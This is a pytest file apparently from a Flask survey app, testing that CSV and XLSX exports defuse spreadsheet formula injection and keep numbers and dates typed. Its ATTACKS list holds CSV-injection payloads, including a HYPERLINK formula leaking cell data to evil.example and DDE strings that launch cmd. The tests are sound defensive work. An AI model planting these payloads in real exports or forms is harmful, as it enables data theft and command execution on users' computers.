"""Exports never hand a spreadsheet a live formula, and XLSX keeps numbers and dates typed."""

from __future__ import annotations

import csv
import io
from datetime import date, datetime

import pytest
from flask import Flask
from flask.testing import FlaskClient
from openpyxl import load_workbook

from feedback.models import QuestionType
from paja.downloads import csv_text, xlsx_bytes
from paja.models import Role
from tests.conftest import Auth
from tests.feedback.factories import add_question, create_survey

ATTACKS = [
    '=HYPERLINK("https://evil.example/?"&A1,"Klikkaa")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_csv_defuses_text_that_starts_a_formula(app: Flask, attack: str) -> None:
    with app.test_request_context():
        text = csv_text([["Nimi"], [attack]])
    [_, [cell]] = list(csv.reader(io.StringIO(text.lstrip("\ufeff")), delimiter=";"))
    assert cell == "'" + attack


@pytest.mark.parametrize("attack", ATTACKS)
def test_xlsx_stores_formula_like_text_as_text(app: Flask, attack: str) -> None:
    with app.test_request_context():
        data = xlsx_bytes("Sheet", [[attack, 5, date(2026, 11, 30)]])
    sheet = load_workbook(io.BytesIO(data)).active
    text, number, day = next(sheet.iter_rows())
    assert text.data_type == "s"
    assert text.value == attack.replace("\r", "\n")  # XML reads a lone CR as a line break
    assert number.value == 5
    assert day.value == datetime(2026, 11, 30)


def test_a_typed_formula_reaches_no_export_live(client: FlaskClient, auth: Auth) -> None:
    owner = auth.login(Role.TRAINER)
    survey = create_survey(owner=owner)
    question = add_question(survey, QuestionType.SHORT, "Terveiset")
    data = {f"q{q.id}": "4" for q in survey.questions if q.kind == QuestionType.RATING}
    data |= {f"q{q.id}": "9" for q in survey.questions if q.kind == QuestionType.NPS}
    data[f"q{question.id}"] = ATTACKS[0]
    client.post(f"/feedback/a/{survey.public_token}", data=data)

    text = client.get(f"/feedback/surveys/{survey.id}/answers.csv").get_data(as_text=True)
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff")), delimiter=";"))
    assert rows[1][rows[0].index("Terveiset")] == "'" + ATTACKS[0]

    workbook = load_workbook(
        io.BytesIO(client.get(f"/feedback/surveys/{survey.id}/answers.xlsx").data)
    )
    header, row = list(workbook.active.iter_rows())
    names = [cell.value for cell in header]
    greeting = row[names.index("Terveiset")]
    assert greeting.data_type == "s" and greeting.value == ATTACKS[0]
    rating = row[3]  # the first rating question: a number, not the text "4"
    assert rating.value == 4 and rating.data_type == "n"
    assert isinstance(row[1].value, datetime)  # the date is a date
